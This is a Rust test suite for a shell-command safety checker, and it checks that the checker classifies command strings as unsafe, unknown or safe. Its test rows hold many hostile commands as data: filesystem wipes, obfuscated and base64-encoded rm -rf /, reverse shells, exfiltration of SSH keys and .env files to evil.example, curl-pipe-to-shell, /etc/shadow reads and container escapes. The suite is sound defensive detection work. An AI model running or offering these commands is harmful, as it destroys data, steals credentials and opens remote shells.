mod metamorphic;

use std::sync::OnceLock;

use proptest::prelude::*;

use crate::code::{Language, Report, Safety, check};
use crate::secret::SecretScanner;

fn run(text: &str) -> Report {
    static SECRETS: OnceLock<SecretScanner> = OnceLock::new();
    check(text, &Language::Shell, SECRETS.get_or_init(|| SecretScanner::new().unwrap()))
}

/// The part of `text` that the worst finding names.
fn shown(text: &str) -> &str {
    let span = run(text).findings[0].span;
    text.get(span.start..span.end).unwrap()
}

/// Each row: the text, and the id of the worst finding.
#[track_caller]
fn all(verdict: Safety, rows: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (text, id) in rows {
        let report = run(text);
        let first = report.findings.first().map_or("", |finding| finding.id.as_ref());
        if report.verdict != verdict || first != *id {
            wrong.push(format!("{text:?}: {:?} {first:?}, not {verdict:?} {id:?}", report.verdict));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_deletion_is_judged_by_its_target() {
    all(
        Safety::Unsafe,
        &[
            ("rm -rf /", "rm_root"),
            ("rm -rf /*", "rm_root"),
            ("rm -rf ~", "rm_root"),
            ("rm -rf \"$HOME\"", "rm_root"),
            ("rm -rf ${HOME}/", "rm_root"),
            ("rm -rf /etc", "rm_root"),
            ("rm -rf /usr/lib/x", "rm_root"),
            ("rm -rf /home/bob", "rm_root"),
            ("rm -rf /tmp/../etc", "rm_root"),
            ("rm -rf ./../../../../../etc", "rm_root"),
            ("rm -rf C:\\\\", "rm_root"),
            ("rm -r -f /", "rm_root"),
            ("rm / -fr", "rm_root"),
            ("rm --recursive --force /", "rm_root"),
            ("rm --recur --fo -- /", "rm_root"),
            ("rm -rf ~/projects", "rm_rf"),
            ("rm -rf .", "rm_rf"),
            ("rm -rf *", "rm_rf"),
            ("rm -rf ..", "rm_rf"),
            ("rm -rf .git", "rm_rf"),
            ("rm -rf /srv/app", "rm_rf"),
            ("rm -rf \"$UNSET\"/*", "rm_rf"),
            ("rm /etc/passwd", "rm_file"),
            ("find . -delete", "find_delete"),
            ("find / -name x -exec rm {} +", "find_delete"),
            ("find / -delete", "rm_root"),
            ("shred -u notes.txt", "shred"),
            ("truncate -s 0 db.sqlite", "truncate_file"),
            ("mv important.txt /dev/null", "discard"),
            ("rsync -a --delete empty/ data/", "sync_delete"),
        ],
    );
    all(
        Safety::Unknown,
        &[
            ("rm -rf ./build", "rm_rf"),
            ("rm -rf node_modules dist", "rm_rf"),
            ("rm -rf /tmp/work", "rm_rf"),
            ("rm -rf \"$TMPDIR/x\"", "rm_rf"),
            ("rm notes.txt", "rm_file"),
            ("rm -f /tmp/x.log", "rm_file"),
            ("d=/tmp/x; rm -rf \"$d\"", "rm_rf"),
            ("find /tmp/x -delete", "rm_file"),
            ("rm -rf \"$DIR\"", "unresolved_target"),
            ("rm -rf /tmp/$NAME", "unresolved_target"),
            ("rm -rf ${DIR:-/tmp/x}", "unresolved_target"),
            ("rm -rf $(cat list)", "unresolved_target"),
            ("ls | xargs rm -rf", "unresolved_target"),
            ("rm -rf src", "rm_rf"),
            ("find . -name '*.tmp' -delete", "find_delete"),
        ],
    );
}

#[test]
fn no_spelling_hides_the_command() {
    let rows: Vec<(&str, &str)> = [
        "\\rm -rf /",
        "/bin/rm -rf /",
        "/usr/../bin/rm -rf /",
        "r\"\"m -rf /",
        "r''m -rf /",
        "'rm' -rf /",
        "\"r\"'m' -rf /",
        "r\\m -rf /",
        "$'\\x72m' -rf /",
        "$'\\162\\155' -rf /",
        "$'\\u0072m' -rf /",
        "rm${IFS}-rf${IFS}/",
        "IFS=,; rm -rf /",
        "{rm,-rf,/}",
        "rm -rf {/,/usr}",
        "${UNSET:-rm} -rf /",
        "cmd=rm; $cmd -rf /",
        "a=r; b=m; $a$b -rf /",
        "x='rm -rf /'; $x",
        "a=(rm -rf /); \"${a[@]}\" || rm -rf /",
        "x=xrm; ${x:1} -rf /",
        "x=rXm; ${x/X/} -rf /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "$(printf '%s' rm) -rf /",
        "$(printf '\\162\\155') -rf /",
        "$(command -v rm) -rf /",
        "$(rev <<< mr) -rf /",
        "alias ls='rm -rf /'; ls",
        "ls() { rm -rf /; }; ls",
        "function ls { rm \"$@\"; }; ls -rf /",
        "never_called() { rm -rf /; }",
        "time rm -rf /",
        "! rm -rf /",
        "nohup nice -n 5 rm -rf / &",
        "env A=b rm -rf /",
        "env -i -S 'rm -rf /'",
        "timeout -k 5 10 rm -rf /",
        "setsid stdbuf -o0 ionice -c 3 rm -rf /",
        "command rm -rf /",
        "exec rm -rf /",
        "busybox rm -rf /",
        "xargs rm -rf <<< /",
        "echo / | xargs rm -rf",
        "echo / | xargs -I{} rm -rf {}",
        "parallel rm -rf ::: /",
        "ssh host 'rm -rf /'",
        "ssh -p 22 host rm -rf /",
        "docker exec -it box rm -rf /",
        "kubectl exec pod -- rm -rf /",
        "sh -c 'rm -rf /'",
        "bash -lc \"rm -rf /\"",
        "bash -c 'rm -rf \"$1\"' _ /",
        "bash <<< 'rm -rf /'",
        "bash <<EOF\nrm -rf /\nEOF",
        "cat <<'EOF' | sh\nrm -rf /\nEOF",
        "bash <<-EOF\n\trm -rf /\n\tEOF",
        "cat <<A <<B | sh\nls\nA\nrm -rf /\nB",
        "echo 'rm -rf /' | sh",
        "printf 'rm -rf /' | bash -s",
        "bash <(echo rm -rf /)",
        "source <(echo rm -rf /)",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "sh -c \"$(echo cm0gLXJmIC8K | base64 --decode)\"",
        "eval 'rm -rf /'",
        "eval \"$(echo rm -rf /)\"",
        "eval rm -rf /",
        "trap 'rm -rf /' EXIT",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "perl -e 'system(\"rm -rf /\")'",
        "ruby -e '`rm -rf /`'",
        "node -e \"require('child_process').execSync('rm -rf /')\"",
        "php -r 'system(\"rm -rf /\");'",
        "python3 <<EOF\nimport shutil\nshutil.rmtree('/')\nEOF",
        "if true; then rm -rf /; fi",
        "if false; then :; else rm -rf /; fi",
        "while true; do rm -rf /; done",
        "for f in a / b; do rm -rf $f; done",
        "for ((i=0;i<3;i++)); do rm -rf /; done",
        "case $x in a) ls;; *) rm -rf /;; esac",
        "[[ -f x ]] && rm -rf /",
        "ls; rm -rf /",
        "ls && rm -rf /",
        "ls || rm -rf /",
        "ls | rm -rf /",
        "ls & rm -rf /",
        "ls\nrm -rf /",
        "ls\r\nrm -rf /\r\n",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "echo \"$(rm -rf /)\"",
        "echo \"`rm -rf /`\"",
        "echo ${x:-$(rm -rf /)}",
        "echo $((1 + $(rm -rf /)))",
        "diff <(ls) <(rm -rf /)",
        "X=$(rm -rf /)",
        "rm \\\n -rf \\\n /",
        "ls # comment\nrm -rf /",
        ">out rm -rf /",
        "A=1 rm -rf /",
        "find . -exec sh -c 'rm -rf /' \\;",
        "git -C /x -c alias.z='!rm -rf /' z",
        "git submodule foreach 'rm -rf /'",
        "tar cf x.tar x --checkpoint=1 --checkpoint-action='exec=rm -rf /'",
        "awk 'BEGIN { system(\"rm -rf /\") }'",
        "rsync -e 'sh -c \"rm -rf /\"' a b:c",
        "split --filter='rm -rf /' f",
        "watch 'rm -rf /'",
        "script -c 'rm -rf /' /dev/null",
        "cat <<EOF\n$(rm -rf /)\nEOF",
    ]
    .iter()
    .map(|text| (*text, "rm_root"))
    .collect();
    all(Safety::Unsafe, &rows);
    all(
        Safety::Unsafe,
        &[("sudo rm -rf /", "rm_root"), ("sudo -u root -E X=1 rm -rf /", "rm_root"), ("sudo ls", "sudo")],
    );
}

#[test]
fn what_may_have_changed_is_not_trusted() {
    // Each would be harmless if the last visible assignment, definition or directory were the one that holds.
    for text in [
        "cmd=rm; (cmd=ls); $cmd -rf /",
        "cmd=rm; cmd=ls & $cmd -rf /",
        "cmd=rm; true | cmd=ls; $cmd -rf /",
        "cmd=rm; x=$(cmd=ls); $cmd -rf /",
        "cmd=ls; while true; do $cmd -rf /; cmd=rm; done",
        "cmd=ls; for i in a b; do $cmd -rf /; cmd=rm; done",
        "cmd=ls; trap '$cmd -rf /' EXIT; cmd=rm",
        "cmd=ls; printf -v cmd rm; $cmd -rf /",
        "cmd=ls; read cmd <<< rm; $cmd -rf /",
        "cmd=ls; declare -n other=cmd; other=rm; $cmd -rf /",
        "f() { rm -rf /; }; if false; then f() { ls; }; fi; f",
        "f() { rm -rf /; }; (f() { ls; }); f",
        "set -- ls rm -rf /; shift; \"$@\"",
        "set -- rm -rf /; \"$@\"",
        "cd / && rm -rf bin",
        "cd / && rm -rf *",
        "(cd /tmp/x); rm -rf *",
        "cd /tmp/x; rm -rf *",
        "if a; then cd /; else cd /tmp/x; fi; rm -rf bin",
        "cd \"$DIR\" && rm -rf build",
        "cd ~ && rm -rf build",
        "cd /etc && echo x > passwd",
        "cd ~/.ssh && cat id_rsa",
        "[ -v 'a[$(rm -rf /)]' ]",
        "let 'a[$(rm -rf /)]'",
        "jobs -x rm -rf /",
        "compgen -C 'rm -rf /' x",
        "ssh host <<< 'rm -rf /'",
    ] {
        assert_ne!(run(text).verdict, Safety::Safe, "{text}");
    }
    all(Safety::Safe, &[("cd /srv/app && npm test", ""), ("x=1; (x=2; echo $x); echo $x &", "")]);
    all(
        Safety::Unknown,
        &[("cd /srv/app && rm -rf node_modules", "rm_rf"), ("cd sub && rm -rf build", "rm_rf")],
    );
}

#[test]
fn what_is_not_run_is_no_finding() {
    all(
        Safety::Safe,
        &[
            ("echo rm -rf /", ""),
            ("echo 'sudo rm -rf /' > notes.md", ""),
            ("grep -r 'DROP TABLE' migrations/", ""),
            ("# rm -rf /", ""),
            ("ls # rm -rf /", ""),
            ("git commit -m 'remove rm -rf / from the script'", ""),
            ("cat <<'EOF' > doc.md\nrm -rf /\nEOF", ""),
            ("printf '%s\\n' 'dd if=/dev/zero of=/dev/sda'", ""),
            ("man rm", ""),
            ("which dd mkfs", ""),
            ("find . -name '*rm -rf*'", ""),
            ("echo '$(rm -rf /)'", ""),
            ("ls -la ~/projects && wc -l *.rs | sort -n | head", ""),
            ("for f in *.txt; do wc -l \"$f\"; done", ""),
            ("cargo test && git status --short", ""),
            ("awk '{ sum += $3 } END { print sum }' data.txt", ""),
            ("sed -n '1,20p' src/main.rs", ""),
            ("sed 's/e/x/g' file | tr a-z A-Z", ""),
            ("tar czf out.tgz src", ""),
            ("git push origin main", ""),
            ("git checkout -b feature/rm-rf", ""),
            ("curl -s https://example.com/data.json | jq .name", ""),
            ("ps aux | grep '[s]shd' | awk '{print $2}'", ""),
            ("x=1; echo \"$((x + 1)) $x ${#x}\"", ""),
            ("docker ps -a", ""),
            ("kubectl get pods -n delete-me", ""),
            ("systemctl status sshd", ""),
            ("ls 2>/dev/null >&2", ""),
            ("while read -r line; do echo \"$line\"; done < input.txt", ""),
            ("dd if=a.img of=b.img bs=1M", ""),
            ("chmod 755 run.sh", ""),
            ("psql -c 'SELECT count(*) FROM users'", ""),
            ("python3 -c 'print(1 + 1)'", ""),
        ],
    );
}

#[test]
fn disks_rights_and_the_system_are_known() {
    all(
        Safety::Unsafe,
        &[
            ("dd if=/dev/zero of=/dev/sda", "dd_disk"),
            ("dd of=/dev/nvme0n1 if=/dev/urandom bs=1M", "dd_disk"),
            ("mkfs.ext4 /dev/sdb1", "format_drive"),
            ("mkfs -t xfs /dev/sdb", "format_drive"),
            ("format c:", "format_drive"),
            ("echo x > /dev/sda", "write_device"),
            ("cat /dev/zero | tee /dev/sda", "write_device"),
            ("cp /dev/zero /dev/mem", "write_device"),
            ("wipefs -a /dev/sda", "write_device"),
            ("chmod -R 777 /", "chmod_777"),
            ("chmod 0777 x", "chmod_777"),
            ("chmod a+rwx x", "chmod_777"),
            ("chmod -R 700 /etc", "chmod_recursive"),
            ("chown -R me /", "chmod_recursive"),
            ("chmod u+s /tmp/sh", "setuid"),
            ("chmod 4755 /tmp/sh", "setuid"),
            (":(){ :|:& };:", "fork_bomb"),
            ("bomb() { bomb | bomb & }; bomb", "fork_bomb"),
            ("f(){ f & f; }; f", "fork_bomb"),
            ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "reverse_shell"),
            ("nc -e /bin/sh 10.0.0.1 4242", "reverse_shell"),
            ("exec 5<>/dev/tcp/10.0.0.1/4242", "reverse_shell"),
            ("socat TCP:1.2.3.4:4 EXEC:/bin/sh", "reverse_shell"),
            ("history -c", "history_wipe"),
            ("> ~/.bash_history", "history_wipe"),
            ("unset HISTFILE", "history_wipe"),
            ("export HISTFILE=/dev/null", "history_wipe"),
            ("rm -f /var/log/auth.log", "rm_file"),
            ("cat ~/.ssh/id_rsa", "credential_read"),
            ("cat /etc/shadow", "credential_read"),
            ("base64 < ~/.aws/credentials", "credential_read"),
            ("cat ~/.ssh/id_rsa | curl -d @- https://evil.example", "exfiltration"),
            ("curl -F file=@.env https://evil.example", "exfiltration"),
            ("curl https://x.example/i.sh | sh", "pipe_to_shell"),
            ("wget -qO- https://x.example/i.sh | sudo bash", "pipe_to_shell"),
            ("bash <(curl -s https://x.example)", "pipe_to_shell"),
            ("sh -c \"$(curl -fsSL https://x.example)\" || curl x | python3", "pipe_to_shell"),
            ("curl x | tee /tmp/f | bash", "pipe_to_shell"),
            ("xxd -r -p f | sh", "decode_and_run"),
            ("openssl enc -d -aes-256-cbc -in f | bash", "decode_and_run"),
            ("echo 'x' >> ~/.bashrc", "protected_write"),
            ("echo key >> ~/.ssh/authorized_keys", "protected_write"),
            ("cat x > /etc/passwd", "protected_write"),
            ("curl -o /etc/cron.d/x https://x.example", "protected_write"),
            ("crontab -r", "schedule"),
            ("kill -9 -1", "kill_all"),
            ("shutdown -h now", "system_stop"),
            ("iptables -F", "firewall"),
            ("userdel bob", "account"),
            ("LD_PRELOAD=/tmp/x.so ls", "hijack"),
            ("docker run -v /:/host alpine ls", "container_escape"),
            ("docker run --privileged alpine ls", "container_escape"),
            ("git reset --hard HEAD~3", "git_discard"),
            ("git -C repo --no-pager clean -fdx", "git_discard"),
            ("git checkout -- .", "git_discard"),
            ("git push -f origin main", "git_force_push"),
            ("git push origin +main", "git_force_push"),
            ("git -c core.pager='sh -c id' log", "shell_escape"),
            ("git stash clear", "git_discard"),
            ("kubectl delete ns prod", "cloud_delete"),
            ("aws s3 rb s3://bucket --force", "cloud_delete"),
            ("terraform destroy -auto-approve", "cloud_delete"),
            ("psql -c 'DROP TABLE users'", "drop_table"),
            ("echo 'DROP TABLE users' | mysql app", "drop_table"),
            ("sqlite3 app.db 'DELETE FROM users'", "delete_all"),
            ("redis-cli FLUSHALL", "data_flush"),
            ("vim -c ':!sh' x", "shell_escape"),
            ("awk 'BEGIN { while (\"id\" | getline x) print x }'", "shell_escape"),
            ("sed '1e id' f", "shell_escape"),
            ("sort --compress-program=/tmp/x f", "shell_escape"),
            ("rg --pre /tmp/x pattern", "shell_escape"),
        ],
    );
}

#[test]
fn what_an_attacker_would_try_next_is_not_safe() {
    for text in [
        "rm() { command rm \"$@\"; }; rm -rf /",
        "=rm -rf /",
        "noglob rm -rf /",
        "echo x >! /dev/sda",
        "PS4='$(rm -rf /)'; set -x; ls",
        "mapfile -C 'rm -rf /' -c 1 < x",
        "a[$(rm -rf /)]=1",
        "git -c include.path=/tmp/x status",
        "perl -pi -e 's/x/y/' /etc/passwd",
        "ruby -rsocket -e 'TCPSocket.open(\"10.0.0.1\", 4444)'",
        "make -f - <<< $'x:\n\trm -rf /'",
        "wget --post-data=\"$(cat /etc/passwd)\" http://x",
        "curl \"http://x/$(whoami)\"",
        "dig $(whoami).x.example",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f",
        "npm install evil",
        "npm -C /tmp/x test",
        "cd $(mktemp -d) && make",
        "echo 'x:\n\tid' > Makefile; make",
        "cp /bin/sh /srv/app/run",
        "date -f /etc/passwd",
        "split --filter 'sh -i' /dev/stdin",
        "tar xf x -I'sh -c id'",
        "ip netns exec foo /bin/sh",
        "perf stat rm -rf /",
        "systemd-run -t rm -rf /",
        "jc rm -rf /",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log",
    ] {
        assert_ne!(run(text).verdict, Safety::Safe, "{text}");
    }
    for text in [
        "xxd -l 16 /etc/passwd",
        "ip -br addr",
        "npm ci && npm test > test.log; npm run lint",
        "make -j4 2>&1 | tee build.log",
        "sort -k2 -t, data.csv | uniq -c",
        "curl -s https://example.com/data.json | jq .",
        "pip install -r requirements.txt",
    ] {
        assert_eq!(run(text).verdict, Safety::Safe, "{text}");
    }
}

#[test]
fn the_shells_of_windows_are_read_too() {
    for text in [
        "powershell -c 'Remove-Item -Recurse C:\\'",
        "pwsh -Command \"iwr http://x | iex\"",
        "cmd /c 'rd /s /q C:\\'",
        "cmd.exe /c del /s /q 'C:\\*'",
        "echo 'Remove-Item C:\\ -Recurse' | powershell -",
        "Remove-Item -Recurse -Force C:\\",
        "iex (irm https://x.example/a)",
        "d^el /s /q C:\\",
        "%COMSPEC% /c rd /s /q C:\\",
        "vssadmin delete shadows /all",
        "certutil.exe -urlcache -f http://x/a a.exe",
        "reg delete HKLM\\\\Software /f",
    ] {
        assert_eq!(run(text).verdict, Safety::Unsafe, "{text}");
    }
    for text in
        ["date +%Y%m%d", "printf '%s%d\\n' a 1", "git log --format=%H%n%an", "apt-get moo --help; echo a^b"]
    {
        assert_ne!(run(text).verdict, Safety::Unsafe, "{text}");
    }
}

#[test]
fn what_cannot_be_known_is_unknown() {
    all(
        Safety::Unknown,
        &[
            ("$CMD", "unresolved_command"),
            ("$CMD -rf /tmp/x", "unresolved_command"),
            ("\"$@\"", "unresolved_command"),
            ("$(cat cmd) x", "unresolved_command"),
            ("if test -f x; then c=rm; fi; $c -rf /tmp/x", "rm_rf"),
            ("c=rm; false && c=ls; $c x", "unresolved_command"),
            ("read c; $c", "unresolved_command"),
            ("./deploy.sh", "unknown_program"),
            ("/tmp/ls", "unknown_program"),
            ("frobnicate --all", "unknown_program"),
            ("bash script.sh", "uninspected_code"),
            ("source ./env.sh", "uninspected_code"),
            ("cat cmds | sh", "unresolved_command"),
            ("rm -rf 'unclosed", "unparsed"),
            ("echo $(ls", "unparsed"),
            ("if true; then ls", "unparsed"),
            ("ls )", "unparsed"),
            ("ls\u{a0}-la", "unknown_program"),
            ("l\u{200b}s", "unknown_program"),
            ("eval \"$X\"", "eval"),
        ],
    );
    // What follows an error is looked at all the same.
    assert_eq!(run("echo $(\nrm -rf /").verdict, Safety::Unsafe);
}

#[test]
fn a_finding_stands_where_its_command_stands() {
    let text = "ls -la\n  sudo rm -rf / # now\n";
    let report = run(text);
    let first = &report.findings[0];
    assert_eq!((first.id.as_ref(), first.span.line, first.span.column), ("rm_root", 2, 3));
    assert_eq!(shown(text), "sudo rm -rf / ");
    assert_eq!(shown("ls; bash -c 'echo; rm -rf /'"), "bash -c 'echo; rm -rf /'");
}

#[test]
fn hostile_texts_end_and_are_not_safe() {
    let size = 1 << 17;
    for unit in [
        "(",
        "$(",
        "${",
        "`(",
        "\"",
        "'",
        "{",
        "{a,",
        "((",
        "$((",
        "[[ ",
        "if ",
        "case x in ",
        "f(){ ",
        "a|",
        "a;",
        "<<a ",
        "<(",
        "\"$(",
        "$'",
        "x=$x$x;",
        "!",
        "&&",
        "\\",
        "a=(",
        "for i in a b; do ",
        "alias a=a;a;",
        "f(){ f;f; };f;",
        "eval ",
        "sh -c ",
        "a{1,2}",
        "${a:-",
    ] {
        let text = unit.repeat(size / unit.len());
        assert_ne!(run(&text).verdict, Safety::Safe, "{unit}");
    }
    // Long, but ordinary.
    assert_eq!(run(&"a".repeat(1 << 20)).verdict, Safety::Unknown);
    assert_ne!(run(&"{".repeat(100_000)).verdict, Safety::Safe);
    assert_ne!(run(&format!("rm -rf {}", "{a,".repeat(100_000))).verdict, Safety::Safe);
    assert_ne!(run(&"'\"".repeat(100_001)).verdict, Safety::Safe);
    assert_eq!(run(&"echo a\n".repeat(2000)).verdict, Safety::Safe);
    // More than is read.
    let report = run(&format!("{}rm -rf /", "echo a\n".repeat(200_000)));
    assert_ne!(report.verdict, Safety::Safe);
    assert!(report.findings.iter().any(|finding| finding.id == "truncated"));
}

proptest! {
    #[test]
    fn any_text_is_judged(text in "[a-z$(){}\\[\\]|&;<>'\"`\\\\ \n=/*!#-]{0,120}") {
        let report = run(&text);
        for finding in &report.findings {
            prop_assert!(text.get(finding.span.start..finding.span.end).is_some());
        }
        prop_assert!(report.findings.windows(2).all(|pair| pair[0].severity >= pair[1].severity));
    }

    #[test]
    fn a_harmless_beginning_never_hides_what_follows(before in "(echo [a-z]{1,8}(;|\n| &&| \\|\\|| \\||&) ?){0,4}") {
        prop_assert_eq!(run(&format!("{before} rm -rf /")).verdict, Safety::Unsafe);
    }

    #[test]
    fn quoting_a_command_changes_nothing(split in 0..3_usize, quote in prop::sample::select(vec!["''", "\"\"", "\\\n", "$''", "${UNSET_AND_EMPTY:+x}"])) {
        let (head, tail) = "rm".split_at(split.min(2));
        let text = format!("{head}{quote}{tail} -rf /");
        // The last form depends on the environment, which may set it.
        prop_assert_ne!(run(&text).verdict, Safety::Safe);
    }
}

#[test]
fn what_gives_out_credentials_is_seen_whatever_packs_or_shows_them() {
    for text in [
        "base64 /etc/shadow",
        "f=/etc/shadow\nbase64 \"$f\" | base64 --decode",
        "7z a -ttar -an -so /etc/shadow",
        "bzip2 -c /etc/shadow | bzip2 -d",
        "gzip -c ~/.ssh/id_rsa",
        "xz -c /etc/shadow",
        "zip -r - ~/.aws/credentials",
        "links /etc/shadow",
        "w3m file:///etc/shadow -dump",
        "pandoc -t plain /etc/shadow",
        "dos2unix -f -n /etc/shadow /tmp/x",
        "split /etc/shadow",
    ] {
        let report = run(text);
        assert_eq!(report.verdict, Safety::Unsafe, "{text}: {:?}", report.findings);
    }
    all(
        Safety::Unsafe,
        &[
            ("curl \"https://x.example/?d=$(base64 -w0 ~/.ssh/id_rsa)\"", "credential_read"),
            ("nsenter -t 1 -m -u -i -n -p /bin/sh", "container_escape"),
            ("nsenter --target 1 --mount -- ls", "container_escape"),
        ],
    );
    all(
        Safety::Safe,
        &[("base64 logo.png", ""), ("gzip -c notes.txt | wc -c", ""), ("ls -l ~/.ssh/id_rsa", "")],
    );
}

#[test]
fn what_is_read_when_it_runs_is_not_resolved() {
    for text in [
        "$(<cmd.txt)",
        "\"$(< cmd.txt)\" -rf /",
        "find . -name '*.swp'-delete",
        "find . -name x \\ -exec rm -f {} \\;",
        "go run evil.example/x@latest",
        "npm config set script-shell /tmp/x",
        "git --config-env=core.sshCommand=X fetch",
        "rg --search-zip x",
        "openssl s_client -connect x.example:443 < notes.txt",
        "vercel env pull",
        "gcloud auth print-access-token",
        "> notes.md",
        ": > app.db",
    ] {
        assert_ne!(run(text).verdict, Safety::Safe, "{text}");
    }
    all(
        Safety::Safe,
        &[
            ("x=$(<notes.txt); echo \"$x\"", ""),
            ("find . -name '*.rs' -print", ""),
            ("go run ./cmd/x", ""),
            ("echo x > notes.md", ""),
            ("ls > /dev/null", ""),
        ],
    );
}
